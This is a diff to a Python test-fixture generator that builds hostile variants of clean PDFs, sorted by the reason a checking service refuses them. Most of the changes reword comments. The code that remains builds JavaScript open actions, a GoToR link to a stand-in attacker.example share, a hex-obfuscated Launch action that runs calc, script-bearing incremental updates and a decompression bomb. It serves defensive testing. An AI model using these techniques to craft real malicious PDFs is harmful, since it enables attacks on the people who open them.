@@ -1,4 +1,4 @@
-"""Hostile twins of sound files: one attack each, in the folder of the reason for which they are refused."""
+"""Creates hostile variants of sound files. Each contains one attack. Its folder is the reason for which the service refuses it."""
 
 import io
 import sys
@@ -27,7 +27,7 @@ def sound(name: str) -> bytes:
 
 
 def twin(reason: str, name: str, attack, base: str = "reportlab-invoice.pdf", **options) -> None:
-    """The base with this attack, saved with these options."""
+    """Adds this attack to the base file, and saves it with these options."""
     with pikepdf.open(SOUND / base) as pdf:
         attack(pdf)
         content = io.BytesIO()
@@ -59,7 +59,7 @@ def field(pdf: Pdf, **more) -> None:
 
 
 def by(**entries):
-    """Sets entries of the catalog; each value is made for the PDF it goes into."""
+    """Returns an attack that sets entries of the catalog. A function creates each value for its PDF."""
     return lambda pdf: [pdf.Root.__setattr__(key, make(pdf)) for key, make in entries.items()]
 
 
@@ -96,7 +96,7 @@ def other_document(pdf: Pdf) -> Dictionary:
     return action("GoToR", F=String(r"\\attacker.example\a.pdf"), D=[0, Name.Fit])
 
 
-# How each attack gets into a PDF, by the reason for which it is refused and the name of its file.
+# The functions that add an attack to a PDF, by the reason of the refusal and the name of the file.
 ATTACKS = {
     "javascript": {
         "open-action": by(OpenAction=lambda pdf: javascript()),
@@ -165,10 +165,10 @@ def pdfs() -> None:
         "javascript", "encrypted-with-empty-password", script, encryption=Encryption(user="", owner="o", R=6), **STREAMS
     )
     twin("javascript", "linearized", script, linearize=True)
-    # The base is one sound file of each producer, so only the script can be the reason for the refusal.
+    # Add the script to a sound file of each program, so that only the script can be the reason for the refusal.
     for base in sorted({path.name.split("-")[0]: path.name for path in SOUND.glob("*.pdf")}.values()):
         twin("javascript", f"twin-of-{base.removesuffix('.pdf')}", script, base=base, **STREAMS)
-    # The new name is as long as the old one, so the offsets in the file stay valid.
+    # The new name is as long as the old name, so the offsets in the file stay valid.
     plain = (OUT / "launch" / "link-plain.pdf").read_bytes()
     write("launch", "name-in-hexadecimal.pdf", plain.replace(b"/Launch", b"/#4caun#63h").replace(b"....calc", b"calc"))
     plain = (OUT / "javascript" / "open-action-plain.pdf").read_bytes()
@@ -181,7 +181,7 @@ def pdfs() -> None:
 
 
 def update(whole: bytes) -> bytes:
-    """An incremental update whose new catalog opens a script. The old file is left as it was."""
+    """Appends an incremental update whose new catalog opens a script. The bytes of the old file do not change."""
     with pikepdf.open(io.BytesIO(whole)) as pdf:
         root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
     start = whole.rindex(b"startxref") + len(b"startxref")
@@ -193,7 +193,7 @@ def update(whole: bytes) -> bytes:
 
 
 def bomb(piece: bytes, times: int) -> bytes:
-    """The catalog lies in an object stream that unpacks to so many pieces, by Flate twice."""
+    """Writes a PDF whose catalog is in a twice compressed object stream, which decompresses to `times` copies of a piece."""
     packer = zlib.compressobj(9)
     packed = packer.compress(b"1 0 2 40 " + b"<< /Type /Catalog /Pages 2 0 R >>       ")
     packed += b"".join(packer.compress(piece) for _ in range(times)) + packer.flush()
